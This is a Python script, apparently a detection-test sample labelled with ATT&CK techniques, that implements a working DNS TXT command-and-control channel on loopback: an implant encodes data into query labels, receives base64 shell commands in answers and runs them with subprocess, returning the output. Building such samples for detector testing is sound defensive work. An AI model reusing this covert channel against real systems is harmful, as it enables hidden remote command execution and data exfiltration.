# technique: T1071.004 T1132.001 T1059.004
"""DNS-shaped C2 over UDP: TXT queries carry encoded check-ins, TXT answers carry commands (T1071.004, T1132.001, T1059.004).

The implant builds real DNS query packets by hand (struct, label
encoding) for TXT records of "<base32 data>.cdn-check.example" and sends
them with sendto to our loopback "resolver" on a UDP port of its own;
the resolver answers with a TXT record whose text is a base64 command.
The implant runs it with subprocess.getoutput and sends the output back
as the labels of the next query.

A good detector raises a high alert: text received in a network answer is
run as a shell command.
"""
import base64
import socket
import struct
import subprocess
import threading

ZONE = "cdn-check.example"


def query(qid, data):
    labels = base64.b32encode(data).decode().rstrip("=").lower() or "ping"
    name = b"".join(bytes([len(part)]) + part.encode()
                    for chunk in [labels[i:i + 63] for i in range(0, len(labels), 63)] + ZONE.split(".")
                    for part in [chunk])
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + name + b"\x00" + struct.pack(">HH", 16, 1)


def answer(packet, text):
    qid = struct.unpack(">H", packet[:2])[0]
    question = packet[12:]
    rdata = bytes([len(text)]) + text
    return (struct.pack(">HHHHHH", qid, 0x8180, 1, 1, 0, 0) + question
            + b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 60, len(rdata)) + rdata)


resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.bind(("127.0.0.1", 0))
resolver.settimeout(5)
commands = [b"id -u", b"uname -n", b""]
exfiltrated = []


def serve():
    for command in commands:
        try:
            packet, peer = resolver.recvfrom(512)
        except OSError:
            return
        exfiltrated.append(packet[13:60])
        resolver.sendto(answer(packet, base64.b64encode(command)), peer)


threading.Thread(target=serve, daemon=True).start()
implant = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
implant.settimeout(5)
output = b"hello"
for qid in range(1, 6):
    packet = query(qid, output)
    implant.sendto(packet, resolver.getsockname())
    reply, _ = implant.recvfrom(512)
    rdata = len(packet) + 2 + 10  # the echoed question, a name pointer, type/class/ttl/rdlength
    txt = reply[rdata + 1:rdata + 1 + reply[rdata]]
    command = base64.b64decode(txt)
    if not command:
        break
    output = subprocess.getoutput(command.decode()).encode()[:30]
implant.close()
print("resolver saw", len(exfiltrated), "queries")
